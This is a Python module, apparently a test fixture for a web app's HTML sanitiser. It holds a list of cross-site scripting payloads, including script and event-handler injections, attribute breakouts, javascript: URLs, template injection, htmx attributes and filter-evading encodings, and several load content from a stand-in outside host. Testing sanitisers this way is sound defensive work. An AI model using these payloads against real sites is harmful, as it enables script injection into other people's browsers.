"""What people write who want their words to run in somebody else's browser.

Where it works it calls `alert`, asks elsewhere, or makes an element that stands in no page of ours.
"""

from __future__ import annotations

ELSEWHERE = "http://elsewhere.invalid"
# An element of this kind stands in no template.
MADE = "x-made"

PAYLOADS = (
    # elements
    "<script>alert(1)</script><x-made>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "<img src=x onerror=alert(1)><x-made></x-made>",
    "<IMG SRC=x oNeRrOr=alert(1)//",
    "<svg onload=alert(1)><x-made>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    f'<svg><image href="{ELSEWHERE}/a.svg"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<details open ontoggle=alert(1)><x-made>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    f"<form action={ELSEWHERE}><button autofocus>x</button></form>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css'; * {{ background: url({ELSEWHERE}/b) }}</style>",
    # out of attributes, of texts, of what stands in scripts
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    '"><x-made onclick=alert(1)>',
    "'><svg/onload=alert(1)>",
    "--><x-made><!--",
    "]]><x-made>",
    "</textarea><x-made>",
    "</title><x-made>",
    "</option></select><x-made>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//",
    '{"a": "</script><x-made>"}',
    "\u2028alert(1)\u2029//",
    # addresses
    "javascript:alert(1)",
    "jAvAsCrIpT&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    f"//elsewhere.invalid/x ![x]({ELSEWHERE}/m.png)",
    # templates and formulas
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "{% raw %}<x-made>{% endraw %}",
    '=HYPERLINK("http://elsewhere.invalid","x")',
    # htmx, which our own pages use
    '<x-made hx-get="http://elsewhere.invalid" hx-trigger="load"></x-made>',
    '<x-made hx-on:load="alert(1)" hx-ws:connect="ws://elsewhere.invalid">',
    '<hx-partial hx-target="body"><x-made></x-made></hx-partial>',
    # written so that a filter would not see it
    "＜script＞alert(1)＜/script＞",
    "\u202e<img src=x onerror=alert(1)>",
    "<scr\u200bipt>alert(1)</scr\u200bipt><x-made>",
    "<img src=x one\u0000rror=alert(1)>".replace("\u0000", ""),
    "&lt;img src=x onerror=alert(1)&gt;&#60;x-made&#62;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><x-made></template><x-made is=x>",
    "<a href='\x01javascript:alert(1)'>x</a>".replace("\x01", "&#1;"),
)
